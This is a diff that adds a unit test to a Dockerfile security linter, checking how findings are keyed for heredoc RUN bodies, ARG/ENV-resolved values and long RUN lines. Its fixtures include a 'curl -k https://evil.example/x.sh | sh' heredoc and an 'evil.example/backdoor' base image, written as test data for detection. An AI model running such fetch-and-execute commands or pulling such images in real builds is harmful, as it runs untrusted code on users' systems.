@@ -6,6 +6,7 @@
 #include "helpers.h"
 #include "rules/fixtures.h"
 #include "dockerfile/dockerfile.h"
+#include "core/key.h"
 #include "core/links.h"
 #include "core/registry.h"
 #include "policy/policy.h"
@@ -160,6 +161,86 @@ START_TEST(test_dockerfile_builder_stages_are_not_final)
 	lint("FROM debian:12 AS base\nUSER 10001\nFROM base\n", "SGD041",
 	     &total, &supp, NULL, NULL);
 	ck_assert_uint_eq(total, 0);
+}
+END_TEST
+
+/* The first finding of rule `id` linting `text`: its fingerprint, key and
+ * object ("" when none) into the caller's buffers. */
+static void identity_of(const char *text, const char *id, char fp[65],
+			char *key, size_t keysize, char *obj, size_t objsize)
+{
+	sg_findings *set = NULL;
+	size_t total, supp, i;
+
+	lint(text, id, &total, &supp, NULL, &set);
+	ck_assert_msg(total >= 1, "no %s in:\n%s", id, text);
+	for (i = 0; i < sg_findings_count(set); i++) {
+		const sg_finding *f = sg_findings_at(set, i);
+
+		if (strcmp(f->rule->id, id))
+			continue;
+		memcpy(fp, f->fingerprint, 65);
+		snprintf(key, keysize, "%s", f->key);
+		snprintf(obj, objsize, "%s", f->loc.object ? f->loc.object : "");
+		break;
+	}
+	sg_findings_free(set);
+}
+
+/* A finding's key holds what the finding is about: heredoc bodies, values
+ * resolved from ARG/ENV or other stages, the whole instruction however
+ * long (bounded by a digest); layout is not part of it. */
+START_TEST(test_dockerfile_identity_keys)
+{
+	char fa[65], fb[65], ka[6000], kb[6000], oa[300], ob[300];
+	struct sg_buf t = SG_BUF_INIT(1 << 20);
+	size_t i;
+
+	/* RUN <<EOF: the body is in the key; its layout is not */
+	identity_of("FROM debian:12\nRUN <<EOF\ncurl -k https://good.example/i.sh | sh\nEOF\n",
+		    "SGD170", fa, ka, sizeof(ka), oa, sizeof(oa));
+	ck_assert_str_eq(ka, "RUN <<EOF curl -k https://good.example/i.sh | sh | -k");
+	identity_of("FROM debian:12\nRUN <<EOF\ncurl -k https://evil.example/x.sh | sh\nEOF\n",
+		    "SGD170", fb, kb, sizeof(kb), ob, sizeof(ob));
+	ck_assert_str_ne(fa, fb);
+	identity_of("FROM debian:12\n\nRUN  <<EOF\n  curl  -k\thttps://good.example/i.sh |  sh\n\nEOF\n",
+		    "SGD170", fb, kb, sizeof(kb), ob, sizeof(ob));
+	ck_assert_str_eq(fa, fb);
+
+	/* FROM ${BASE}: the value the rules judge is in the key */
+	identity_of("ARG BASE=debian:latest\nFROM ${BASE}\n", "SGD021", fa, ka,
+		    sizeof(ka), oa, sizeof(oa));
+	ck_assert_str_eq(ka, "FROM ${BASE} => FROM debian:latest | ${BASE}");
+	identity_of("ARG BASE=evil.example/backdoor:latest\nFROM ${BASE}\n",
+		    "SGD021", fb, kb, sizeof(kb), ob, sizeof(ob));
+	ck_assert_str_ne(fa, fb);
+	/* ENV values too */
+	identity_of("FROM debian:12\nARG V=0\nENV DOCKER_CONTENT_TRUST=$V\n",
+		    "SGD049", fa, ka, sizeof(ka), oa, sizeof(oa));
+	ck_assert_ptr_nonnull(strstr(ka, " => ENV DOCKER_CONTENT_TRUST=0 | "));
+	/* a base reached through another stage: in the key of SGD041 */
+	identity_of("FROM debian:12 AS base\nFROM base\n", "SGD041", fa, ka,
+		    sizeof(ka), oa, sizeof(oa));
+	ck_assert_str_eq(ka, "FROM base = debian:12");
+	identity_of("FROM ubuntu:24.04 AS base\nFROM base\n", "SGD041", fb, kb,
+		    sizeof(kb), ob, sizeof(ob));
+	ck_assert_str_ne(fa, fb);
+
+	/* a 5 kB RUN: bounded key, and its end still counts */
+	sg_buf_puts(&t, "FROM debian:12\nRUN curl -k https://x/t.sh -o /t.sh");
+	for (i = 0; i < 300; i++)
+		sg_buf_printf(&t, " && \\\n    echo %03zu", i);
+	sg_buf_puts(&t, " && sh /t.sh --verify\n");
+	identity_of(sg_buf_cstr(&t), "SGD170", fa, ka, sizeof(ka), oa,
+		    sizeof(oa));
+	ck_assert_uint_lt(strlen(ka), SG_KEY_PIECE_MAX + 200);
+	ck_assert_ptr_nonnull(strstr(ka, " ... sha256:"));
+	memcpy(strstr(t.ptr, "--verify"), "--backdr", 8);
+	identity_of(sg_buf_cstr(&t), "SGD170", fb, kb, sizeof(kb), ob,
+		    sizeof(ob));
+	ck_assert_str_ne(fa, fb);
+
+	sg_buf_release(&t);
 }
 END_TEST
 
@@ -377,6 +458,7 @@ Suite *dockerfile_rules_suite(void)
 	tcase_add_test(tc, test_dockerfile_suppressions);
 	tcase_add_test(tc, test_dockerfile_compose_links);
 	tcase_add_test(tc, test_dockerfile_builder_stages_are_not_final);
+	tcase_add_test(tc, test_dockerfile_identity_keys);
 	tcase_add_test(tc, test_dockerfile_hadolint_config);
 	tcase_add_test(tc, test_dockerfile_reference_coverage);
 	suite_add_tcase(s, tc);
